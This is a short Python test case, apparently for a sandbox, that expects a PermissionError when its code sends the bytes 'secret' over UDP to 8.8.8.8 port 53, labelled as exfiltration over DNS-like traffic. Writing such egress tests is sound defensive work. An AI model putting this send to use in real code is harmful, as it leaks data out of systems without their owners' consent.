# expect: result PermissionError 1
"""Send a UDP datagram (exfiltration over DNS-like traffic)."""

import socket


def entrypoint(argv):
    try:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.sendto(b"secret", ("8.8.8.8", 53))
    except OSError as e:
        return f"{type(e).__name__} {e.errno}"
    return "sent"
